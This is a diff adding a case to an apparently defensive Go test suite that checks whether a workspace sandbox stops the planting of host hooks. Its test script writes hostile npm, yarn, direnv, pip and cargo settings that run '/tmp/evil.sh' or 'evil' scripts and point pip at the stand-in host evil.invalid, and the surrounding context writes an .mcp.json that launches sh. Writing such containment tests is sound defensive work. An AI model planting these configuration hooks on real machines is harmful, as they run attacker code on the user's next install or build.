@@ -283,6 +283,26 @@ echo '{"mcpServers": {"x": {"command": "sh"}}}' > lib/.mcp.json`,
 				}
 				return out
 			}},
+		{cat: catProtect, name: "package manager and direnv configuration",
+			// What npm, yarn, pip, cargo and direnv on the host read from the
+			// directory they run in (and those above it) without asking: an
+			// install-time shell, a yarn binary, an index, a compiler
+			// wrapper. One existed, and is edited; the others are new, at
+			// the root and in a package.
+			setup: func(e *escEnv) { e.plant("ws/.npmrc", "registry=https://registry.npmjs.org/\n", 0o644) },
+			script: `echo 'script-shell=/tmp/evil.sh' >> .npmrc; echo 'yarnPath: evil.cjs' > .yarnrc.yml; echo 'yarn-path evil.js' > .yarnrc
+echo 'eval "$(cat evil)"' > .envrc; printf '[global]\nindex-url = http://evil.invalid/\n' > pip.conf; echo '[distutils]' > .pypirc
+mkdir -p .cargo && printf '[build]\nrustc-wrapper = "/tmp/evil.sh"\n' > .cargo/config.toml
+mkdir -p packages/web/.cargo .venv && echo 'script-shell=/tmp/evil.sh' > packages/web/.npmrc && echo 'eval evil' > packages/web/.envrc
+printf '[target.x86_64-unknown-linux-gnu]\nrunner = "/tmp/evil.sh"\n' > packages/web/.cargo/config && printf '[global]\nindex-url = http://evil.invalid/\n' > .venv/pip.conf`,
+			breach: func(e *escEnv, r result) []string {
+				out := fileIs(filepath.Join(e.b.ws, ".npmrc"), "registry=https://registry.npmjs.org/\n")
+				for _, p := range []string{".yarnrc.yml", ".yarnrc", ".envrc", "pip.conf", ".pypirc", ".cargo/config.toml",
+					"packages/web/.npmrc", "packages/web/.envrc", "packages/web/.cargo/config", ".venv/pip.conf"} {
+					out = append(out, absent(filepath.Join(e.b.ws, p))...)
+				}
+				return out
+			}},
 		{cat: catProtect, name: "a host hook for the next run, deep in a trusted workspace",
 			// The user trusts the workspace and a directory in it (cordon
 			// trust): the settings of the workspaces below them may name
